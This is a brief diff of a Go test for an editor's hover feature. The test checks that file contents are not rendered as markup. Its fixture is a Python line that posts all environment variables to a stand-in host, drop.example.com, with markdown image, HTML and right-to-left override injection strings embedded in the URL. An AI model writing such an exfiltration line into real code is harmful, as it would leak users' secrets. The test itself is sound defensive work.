@@ -131,7 +131,7 @@ func TestAnEditorThatGoesAwayIsNoPass(t *testing.T) {
 	}
 }
 
-func TestWhatFilesHaveInThemIsNoMarkup(t *testing.T) {
+func TestContentOfFilesIsNoMarkup(t *testing.T) {
 	e := open(t, project(t, map[string]string{"a.py": ""}).Dir, Options{}, nil)
 	e.edit("a.py", "import os, requests\nrequests.post('https://drop.example.com/![x](https://192.0.2.1/p.png)```<img src=x>\u202e', json=dict(os.environ))\n")
 	h, err := call[*protocol.Hover](e, "textDocument/hover", protocol.HoverParams{TextDocument: protocol.TextDocument{URI: e.uri("a.py")}, Position: at(1, 0)})
